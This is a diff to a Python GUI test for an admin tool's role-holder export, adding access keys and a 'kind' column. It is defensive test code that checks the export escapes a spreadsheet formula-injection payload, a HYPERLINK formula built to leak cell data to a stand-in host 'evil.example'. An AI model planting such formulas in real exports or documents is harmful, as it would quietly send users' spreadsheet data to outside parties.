@@ -16,12 +16,12 @@ from PySide6.QtGui import QKeySequence, QShortcutEvent
 
 from birdadmin.ui.main_window import PAGE_GROUPS, PAGE_ROLES
 from tests.gui.conftest import LOAD_TIMEOUT_MS, wait_loaded
-from tests.gui.test_main_window import all_users_raw, roles_raw, scim_get, teams_raw
+from tests.gui.test_main_window import all_users_raw, keys_holding_raw, roles_raw, scim_get, teams_raw
 
 pytestmark = pytest.mark.usefixtures("no_qt_warnings")
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
-HOLDERS_HEADER = ["id", "userName", "displayName", "active", "source", "groupId", "roleId", "role"]
+HOLDERS_HEADER = ["id", "userName", "displayName", "active", "source", "groupId", "roleId", "role", "kind"]
 
 
 def add_user(emu: Any, user_name: str, display_name: str, roles: list[str]) -> str:
@@ -102,6 +102,8 @@ def test_ctrl_e_on_the_roles_page_exports_the_holders_of_the_selected_role(
     reload(demo_window, qtbot)
     users = {u["id"]: u for u in all_users_raw(emu)}
     expected = {(uid, "direct", "") for uid, u in users.items() if role_id in u.get("roles", [])}
+    keys = keys_holding_raw(emu, role_id)  # access keys hold roles directly (issue 13)
+    expected |= {(kid, "direct", "") for kid in keys}
     for team in teams:
         if any(ref["id"] == role_id for ref in team.get("roleRefs", [])):
             group = scim_get(emu, f"Groups/{team['id']}")
@@ -115,11 +117,14 @@ def test_ctrl_e_on_the_roles_page_exports_the_holders_of_the_selected_role(
     assert rows[0] == HOLDERS_HEADER
     assert {(r[0], r[4], r[5]) for r in rows[1:]} == expected
     assert len(rows) - 1 == len(expected)
+    assert {row[0] for row in rows[1:] if row[-1] == "key"} == keys
     for row in rows[1:]:
+        if row[-1] == "key":
+            continue
         user = users[row[0]]
         assert row[1:4] == [user["userName"], user["displayName"] if row[0] != hostile else "'" + FORMULA,
                             "yes" if user.get("active", True) else "no"]
-        assert row[6:] == [role_id, names[role_id]]
+        assert row[6:] == [role_id, names[role_id], "user"]
     assert any(row[0] == hostile and row[4] == "direct" for row in rows[1:])
 
 
